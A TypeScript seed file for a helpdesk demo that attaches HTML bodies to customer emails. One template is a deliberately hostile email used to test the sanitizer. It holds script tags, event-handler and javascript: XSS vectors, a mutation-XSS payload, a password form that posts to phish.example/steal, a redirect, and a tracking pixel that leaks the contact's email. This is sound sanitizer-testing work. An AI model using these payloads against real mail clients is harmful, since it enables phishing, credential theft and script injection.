import type { Contact, Message, Ticket } from '../../shared/model/index.ts';
import { DEMO_AGENT_EMAIL } from './credentials.ts';
import type { DemoWorkspace } from './generate.ts';

/**
 * Customer emails with HTML bodies (issue 5: sanitized, shown in a sandboxed frame): newsletter-like
 * mail as customers' clients send it, one of them hostile. They go on the latest customer message of
 * the demo agent's most recently updated email tickets, so they are on screen right after sign-in.
 * The plain text body stays as generated: it is the "Show plain text" fallback.
 */

/** Set by the hostile email's script, handlers and links if any of them ever ran: the end-to-end test checks it stays unset. */
export const HOSTILE_EMAIL_GLOBAL = '__orbitPwned';
/** A sentence only the hostile email contains (in its visible text). */
export const HOSTILE_EMAIL_TEXT = 'Please confirm your mailbox by reviewing the attached statement.';

const escape = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const paragraphs = (text: string) =>
  text
    .split(/\n{2,}/)
    .map((p) => `<p style="margin:0 0 12px">${escape(p).replace(/\n/g, '<br>')}</p>`)
    .join('');

type Template = (body: string, contact: Contact) => string;

const TEMPLATES: Template[] = [
  // 1. A hostile email: everything a sanitizer must take out, around readable text.
  (body, contact) => `<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url=https://phish.example/login">
<base href="https://phish.example/">
<script>window.${HOSTILE_EMAIL_GLOBAL} = 'script';</script>
<style>body { background: url("javascript:window.${HOSTILE_EMAIL_GLOBAL}='css'") } p { width: expression(alert(1)) }</style>
</head><body onload="window.${HOSTILE_EMAIL_GLOBAL}='onload'">
<div style="font-family:Arial,sans-serif;max-width:600px">
${paragraphs(body)}
<p><strong>${HOSTILE_EMAIL_TEXT}</strong></p>
<img src="x" onerror="window.${HOSTILE_EMAIL_GLOBAL}='onerror'" alt="statement">
<svg onload="window.${HOSTILE_EMAIL_GLOBAL}='svg'"><script>window.${HOSTILE_EMAIL_GLOBAL}='svg-script'</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.${HOSTILE_EMAIL_GLOBAL}='mxss'"></style></mglyph></table></mtext></math>
<p><a href="javascript:window.${HOSTILE_EMAIL_GLOBAL}='link'">View statement</a> · <a href="https://phish.example/unsubscribe">Unsubscribe</a></p>
<form action="https://phish.example/steal" method="post"><input type="password" name="password" placeholder="Mailbox password"><button>Confirm</button></form>
<iframe src="https://phish.example/frame"></iframe>
<img src="https://tracker.example/open.gif?c=${encodeURIComponent(contact.email)}" width="1" height="1" alt="">
<p style="color:#888;font-size:12px">${escape(contact.name)}</p>
</div></body></html>`,
  // 2. A newsletter-style message from a customer's marketing-minded mail client.
  (body, contact) => `<table role="presentation" width="100%" cellpadding="0" cellspacing="0" style="background:#f4f5f7"><tr><td align="center">
<table role="presentation" width="600" cellpadding="16" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif;color:#1f2430">
<tr><td style="border-bottom:3px solid #2857c5"><img src="https://cdn.acme-mail.example/logo.png" alt="${escape(contact.name)}" width="120" height="32"></td></tr>
<tr><td>${paragraphs(body)}</td></tr>
<tr><td><a href="https://status.acme-mail.example/incidents" style="background:#2857c5;color:#fff;padding:8px 14px;border-radius:4px;text-decoration:none">Our incident log</a></td></tr>
<tr><td style="font-size:12px;color:#7a8190">${escape(contact.name)} · Sent with Acme Mail · <a href="https://acme-mail.example/unsubscribe">Unsubscribe</a></td></tr>
</table></td></tr></table>`,
  // 3. A reply quoting an earlier thread, as Outlook and Gmail write it.
  (body, contact) => `<div dir="ltr" style="font-family:Calibri,sans-serif;font-size:14px">${paragraphs(body)}
<p>Best regards,<br><b>${escape(contact.name)}</b><br><span style="color:#666">${escape(contact.title ?? '')}</span></p>
<hr style="border:none;border-top:1px solid #ccc">
<blockquote style="margin:0 0 0 8px;padding-left:8px;border-left:2px solid #ccc;color:#555">
<p><b>From:</b> Support<br><b>Sent:</b> earlier this week<br><b>Subject:</b> Re: your request</p>
<p>Thanks for reaching out. Could you send us a screenshot of the error and the time it happened?</p>
</blockquote></div>`,
  // 4. A product digest with a list, a data: image and a remote banner.
  (body, contact) => `<div style="font-family:Georgia,serif;max-width:640px">
<img src="https://images.example-newsletter.example/banner-spring.jpg" alt="Spring digest" width="640" height="120">
<h2 style="color:#2d3a4a">A quick note from ${escape(contact.name)}</h2>
${paragraphs(body)}
<ul><li>Steps tried: restart, clear cache</li><li>Browsers: Chrome and Firefox</li><li>Started: this morning</li></ul>
<p><img src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==" alt="" width="1" height="1">Thanks!</p>
</div>`,
];

/** Gives a few customer emails HTML bodies, replacing those messages in `demo.messages` (deterministic: same input, same output). */
export function addHtmlEmails(demo: Pick<DemoWorkspace, 'agents' | 'contacts' | 'tickets' | 'messages'>): void {
  const agent = demo.agents.find((a) => a.email === DEMO_AGENT_EMAIL);
  if (!agent) return;
  const contacts = new Map(demo.contacts.map((c) => [c.id, c]));
  const lastCustomerMessage = new Map<string, Message>();
  for (const m of demo.messages) if (m.authorType === 'contact' && m.kind === 'reply') lastCustomerMessage.set(m.ticketId, m);
  const chosen = demo.tickets
    .filter((t: Ticket) => t.assigneeId === agent.id && t.channel === 'email' && t.status !== 'closed' && lastCustomerMessage.has(t.id))
    .sort((a, b) => b.updatedAt.localeCompare(a.updatedAt) || b.id.localeCompare(a.id))
    .slice(0, TEMPLATES.length);
  const html = new Map<string, string>();
  chosen.forEach((ticket, i) => {
    const message = lastCustomerMessage.get(ticket.id) as Message;
    const contact = contacts.get(ticket.requesterId);
    const template = TEMPLATES[i];
    if (contact && template) html.set(message.id, template(message.body, contact));
  });
  demo.messages.forEach((m, i) => {
    const bodyHtml = html.get(m.id);
    if (bodyHtml !== undefined) demo.messages[i] = { ...m, bodyHtml };
  });
}
